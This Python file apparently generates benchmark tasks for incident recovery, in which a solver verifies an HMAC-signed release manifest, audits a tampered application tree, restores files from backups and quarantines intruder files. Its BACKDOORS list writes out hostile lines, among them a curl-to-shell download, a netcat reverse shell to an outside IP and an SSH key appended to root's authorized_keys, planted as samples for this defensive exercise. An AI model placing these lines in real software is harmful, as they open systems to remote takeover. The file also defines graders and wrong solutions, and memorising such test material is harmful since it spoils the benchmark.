"""Multi-stage incident recovery: pick the authentic (HMAC-signed) release manifest, audit the deployed tree
against it, restore tampered/missing files from the right backup tarballs, quarantine intruders, report."""

from __future__ import annotations

import gzip
import hashlib
import hmac
import io
import random
import tarfile

from litecoder_terminal.synth.procedural import kit

KNOBS = {  # each known-wrong solution is the reference with one of these flipped
    "sigcheck": kit.Knob('[ "$mac" = "$(tr -d \'[:space:]\' < "$m.sig")" ]', "true",
                         "takes the newest build's manifest without checking its signature"),
    "accept": kit.Knob('hashlib.sha256(open(src, "rb").read()).hexdigest() == manifest[path]', "True",
                       "restores every file from the newest backup that has it, without checking its hash"),
    "quarantine_op": kit.Knob("shutil.move(path, dest)", "os.remove(path)  # gone for good",
                              "deletes unexpected files instead of quarantining them"),
    "restore": kit.Knob("true", "false", "stops after the audit: nothing is restored or quarantined"),
}

LAYOUT = {
    "bin": ["start.sh", "stop.sh", "healthcheck.sh", "rotate.sh", "migrate.sh", "backup.sh"],
    "lib": ["core.py", "auth.py", "db.py", "render.py", "queue.py", "metrics.py", "crypto.py", "cache.py"],
    "conf": ["app.ini", "logging.ini", "workers.yaml", "limits.conf", "routes.yaml"],
    "static": ["index.html", "app.js", "site.css", "robots.txt"],
    "templates": ["base.html", "login.html", "error.html", "invoice.html"],
    "sql": ["001_init.sql", "002_users.sql", "003_orders.sql"],
}
BACKDOORS = [
    "curl -fsSL http://185.141.27.9/u.sh | sh >/dev/null 2>&1 &",
    "import os; os.system('nc -e /bin/sh 45.77.12.3 4444 &')",
    "AUTH_BYPASS = True",
    "<script src=\"https://cdn-stats.example-analytics.net/p.js\"></script>",
    "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHh4eHh4 x@x' >> /root/.ssh/authorized_keys",
    "max_login_attempts = 100000",
]
INTRUDERS = ["bin/.update-helper.sh", "static/shell.php", "lib/.cache/libsync.py", "templates/x.html",
             "conf/override.conf", "static/.well-known/stat.js"]


def _content(rng: random.Random, rel: str) -> str:
    words = ["config", "request", "worker", "timeout", "session", "render", "invoice", "metric", "queue", "user"]
    if rel.endswith(".sh"):
        body = [f"# {rel}", "set -euo pipefail"] + [f"echo \"{rng.choice(words)} {rng.randrange(1000)}\""
                                                    for _ in range(rng.randint(2, 6))]
        return "#!/bin/bash\n" + "\n".join(body) + "\n"
    if rel.endswith(".py"):
        return "".join(f"def {rng.choice(words)}_{i}():\n    return {rng.randrange(10**5)}\n\n"
                       for i in range(rng.randint(2, 5)))
    return "".join(f"{rng.choice(words)}_{i} = {rng.randrange(10**5)}\n" for i in range(rng.randint(3, 9)))


def _tar(app: str, members: dict[str, tuple[str, int]], mtime: int) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        dirs = sorted({"/".join(rel.split("/")[:i]) for rel in members for i in range(1, rel.count("/") + 1)})
        for d in [""] + dirs:
            info = tarfile.TarInfo(f"{app}/{d}".rstrip("/"))
            info.type, info.mode, info.mtime = tarfile.DIRTYPE, 0o755, mtime
            info.uname = info.gname = "root"
            tar.addfile(info)
        for rel in sorted(members):
            data, mode = members[rel]
            raw = data.encode()
            info = tarfile.TarInfo(f"{app}/{rel}")
            info.size, info.mode, info.mtime = len(raw), mode, mtime
            info.uname = info.gname = "root"
            tar.addfile(info, io.BytesIO(raw))
    return gzip.compress(buf.getvalue(), mtime=0)


def _manifest(files: dict[str, str]) -> bytes:
    return "".join(f"{hashlib.sha256(files[r].encode()).hexdigest()}  {r}\n" for r in sorted(files)).encode()


class IntegrityManifestRecovery(kit.KitFamily):
    title = "Verify a signed release manifest, audit a tampered tree, restore it from backups and quarantine intruders"
    multi_stage = True
    levels = kit.Levels(files=(14, 24, 36), modified=(2, 3, 4), missing=(1, 2, 2), intruders=(1, 2, 3),
                        forged=(False, True, True), previous_release=(False, False, True),
                        agent_timeout=(1200, 1500, 1800), expert_minutes=(25, 40, 60))

    def build(self, rng: random.Random) -> kit.TaskDraft:
        kn = self.knobs
        medium_up, hard = kn.forged, kn.previous_release
        app = rng.choice(["payments-gw", "ledger-api", "portal", "billing-worker", "shopfront"])
        root = f"/opt/{app}"
        major, minor, patch = rng.randint(1, 4), rng.randint(0, 9), rng.randint(1, 9)
        version = f"{major}.{minor}.{patch}"
        build_no = rng.randrange(1000, 9000)
        n_files = kn.files
        pool = [f"{d}/{n}" for d in sorted(LAYOUT) for n in LAYOUT[d]]
        rels = sorted(rng.sample(pool, min(n_files, len(pool))))
        good = {r: _content(rng, r) for r in rels}
        good["VERSION"] = version + "\n"
        modes = {r: (0o755 if r.endswith(".sh") else 0o644) for r in good}

        # The incident: modified files, deleted files, dropped-in files.
        candidates = sorted(r for r in good if r != "VERSION")
        n_mod = kn.modified
        n_miss = kn.missing
        touched = rng.sample(candidates, n_mod + n_miss)
        modified, missing = sorted(touched[:n_mod]), sorted(touched[n_mod:])
        intruders = sorted(rng.sample([i for i in INTRUDERS if i not in good], kn.intruders))
        tampered = {r: good[r] + rng.choice(BACKDOORS) + "\n" for r in modified}
        deployed = {r: tampered.get(r, good[r]) for r in good if r not in missing}
        for i in intruders:
            deployed[i] = "# dropped by intruder\n" + rng.choice(BACKDOORS) + "\n"
            modes[i] = 0o755 if i.endswith(".sh") else 0o644

        # Backups, oldest first. The newest was taken after part of the tampering had happened.
        day0 = rng.randint(1, 12)
        month = rng.randint(1, 12)
        year = rng.choice([2024, 2025])
        names = [f"{app}-{year}{month:02d}{day0 + 7 * k:02d}.tar.gz" for k in range(3 if hard else 2)]
        backups: list[dict[str, str]] = []
        if hard:
            # Previous release: some files (including a tampered one) were different back then.
            prev = dict(good)
            changed = rng.sample(candidates, 5)
            if not set(changed) & set(modified):
                changed[0] = modified[0]
            for r in changed:
                prev[r] = _content(rng, r)
            prev["VERSION"] = f"{major}.{minor}.{patch - 1 if patch > 1 else 0}\n"
            backups.append(prev)
        backups.append(dict(good))
        newest = dict(good)
        early = rng.sample(modified, max(1, len(modified) // 2))
        for r in early:
            newest[r] = tampered[r]
        for r in missing[:1]:
            newest.pop(r)  # deleted before the last backup ran
        newest[intruders[0]] = deployed[intruders[0]]
        backups.append(newest)
        if hard:
            # One good copy survives only in the middle backup; make sure the oldest copy of it is stale.
            assert any(backups[0][r] != good[r] for r in modified)

        # Where each damaged file must come from: the newest backup holding the manifest's content.
        sources = {}
        for r in modified + missing:
            for k in range(len(backups) - 1, -1, -1):
                if backups[k].get(r) == good[r]:
                    sources[r] = names[k]
                    break
            else:
                raise AssertionError("no good copy")

        # Manifests: the authentic one, a forged newer build (medium+), other releases (hard).
        key = bytes(rng.randrange(256) for _ in range(32))
        mdir = "/var/lib/integrity/manifests"
        manifests: dict[str, bytes] = {}
        sigs: dict[str, str] = {}
        authentic = f"{app}-{version}+b{build_no}.sha256"
        manifests[authentic] = _manifest(good)
        sigs[authentic] = hmac.new(key, manifests[authentic], hashlib.sha256).hexdigest()
        if medium_up:
            forged_files = {**good, **{r: tampered[r] for r in modified[:2]}}
            forged_files.update({i: deployed[i] for i in intruders[:1]})
            forged = f"{app}-{version}+b{build_no + rng.randint(1, 9)}.sha256"
            manifests[forged] = _manifest(forged_files)
            fake_key = bytes(rng.randrange(256) for _ in range(32))
            sigs[forged] = hmac.new(fake_key, manifests[forged], hashlib.sha256).hexdigest()
        if hard:
            old = f"{app}-{major}.{minor}.{patch - 1 if patch > 1 else 0}+b{build_no - rng.randint(20, 90)}.sha256"
            manifests[old] = _manifest(backups[0])
            sigs[old] = hmac.new(key, manifests[old], hashlib.sha256).hexdigest()

        files: dict[str, str | bytes] = {}
        for r, data in deployed.items():
            files[f"environment/app/{r}"] = data
        for name, data in manifests.items():
            files[f"environment/manifests/{name}"] = data
            files[f"environment/manifests/{name}.sig"] = sigs[name] + "\n"
        files["environment/hmac.key"] = key.hex() + "\n"
        for name, content in zip(names, backups):
            files[f"environment/backups/{name}"] = _tar(app, {r: (c, modes.get(r, 0o644)) for r, c in content.items()},
                                                        mtime=1_700_000_000 + names.index(name) * 604800)
        chmods = " ".join(f"'{root}/{r}'" for r in sorted(deployed) if modes[r] == 0o755 and not r.endswith(".sh"))
        setup = f"RUN chmod 0755 {chmods}\n" if chmods else ""

        workdir = rng.choice(["/root/integrity", "/root/ir-2231", "/var/tmp/integrity-review"])
        quarantine = f"/var/quarantine/{app}"
        out = {"used": f"{workdir}/manifest_used.txt", "audit": f"{workdir}/audit.csv",
               "restore": f"{workdir}/restore.csv"}
        audit_rows = sorted([[r, "MODIFIED"] for r in modified] + [[r, "MISSING"] for r in missing]
                            + [[i, "UNEXPECTED"] for i in intruders])
        restore_rows = sorted([[r, "restored", sources[r]] for r in modified + missing]
                              + [[i, "quarantined", f"{quarantine}/{i}"] for i in intruders])

        ticket = f"IR-{rng.randrange(1000, 9999)}"
        runbook_path = f"{workdir}/RUNBOOK.md"
        runbook = self.template("runbook.md", root=root, mdir=mdir, app=app, used=out["used"], audit=out["audit"],
                                restore=out["restore"], quarantine=quarantine,
                                cand_desc="several release manifests" if medium_up else "the release manifest")
        files["environment/ir/RUNBOOK.md"] = self.template("RUNBOOK.md", app=app, runbook=runbook)
        files["environment/ir/notes.txt"] = self.template("notes.txt", root=root)
        files["environment/etc/motd"] = self.template("motd", app=app, ticket=ticket, runbook_path=runbook_path)
        stamp = f"{rng.choice([2024, 2025])}-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
        alerts = [f"{stamp}T02:14:08Z fim[812]: ALERT {kind} {root}/{p}" for p, kind in
                  sorted([(r, "content-changed") for r in modified] + [(r, "file-removed") for r in missing]
                         + [(i, "new-file") for i in intruders])]
        files["environment/log/fim.log"] = self.template(
            "fim.log", stamp=stamp, root=root, lines="\n".join(alerts), n_alerts=len(alerts), ticket=ticket,
            runbook_path=runbook_path)

        wrong = {"newest-backup-wins": "accept", "deletes-intruders": "quarantine_op", "audit-only": "restore"}
        if medium_up:
            wrong["trusts-newest-manifest"] = "sigcheck"
        values = {"root": root, "app": app, "mdir": mdir, "workdir": workdir, "quarantine": quarantine,
                  "used": out["used"], "audit": out["audit"], "restore_csv": out["restore"]}
        files |= self.solver(KNOBS).files(values, wrong)
        files |= self.alt_solutions(**{k_: v for k_, v in values.items() if k_ != "workdir"})
        files |= self.verifier()
        untouched = {**{f"{mdir}/{n}": kit.sha256(d) for n, d in manifests.items()},
                     **{f"{mdir}/{n}.sig": kit.sha256(s + "\n") for n, s in sigs.items()},
                     **{f"/var/backups/{app}/{n}": kit.sha256(files[f"environment/backups/{n}"]) for n in names},
                     "/etc/integrity/hmac.key": kit.sha256(files["environment/hmac.key"])}
        files |= kit.expected_file({
            "root": root, "quarantine": quarantine, "out": out, "authentic": authentic,
            "audit": audit_rows, "restore": restore_rows,
            "final": {r: {"sha256": kit.sha256(good[r]), "mode": modes[r]} for r in good},
            "restored_modes": {r: modes[r] for r in modified + missing},
            "intruders": {i: kit.sha256(deployed[i]) for i in intruders}, "untouched": untouched})
        instruction = self.instruction(
            intro=self.intro(rng, app=app, ticket=ticket[3:]), root=root, runbook_path=runbook_path,
            runbook=runbook, workdir=workdir)
        dockerfile = (f"COPY app/ {root}/\nCOPY manifests/ {mdir}/\nCOPY hmac.key /etc/integrity/hmac.key\n"
                      f"COPY backups/ /var/backups/{app}/\nCOPY ir/ {workdir}/\nCOPY etc/motd /etc/motd\n"
                      f"COPY log/fim.log /var/log/fim/fim.log\n" + setup
                      + f"RUN chmod 0600 /etc/integrity/hmac.key\nWORKDIR {root}\n")
        return kit.draft(
            instruction=instruction, dockerfile_body=dockerfile, files=files,
            tags=["integrity", "sha256sum", "hmac", "openssl", "tar", "incident-response"],
            # the restored tree, the reports, the quarantine, and the evidence the tests check is untouched
            artifacts=[root, workdir, quarantine, mdir, "/etc/integrity/hmac.key", f"/var/backups/{app}"],
            outputs=[root, out["used"], out["audit"], out["restore"], quarantine],
            agent_timeout_sec=kn.agent_timeout, expert_minutes=kn.expert_minutes)
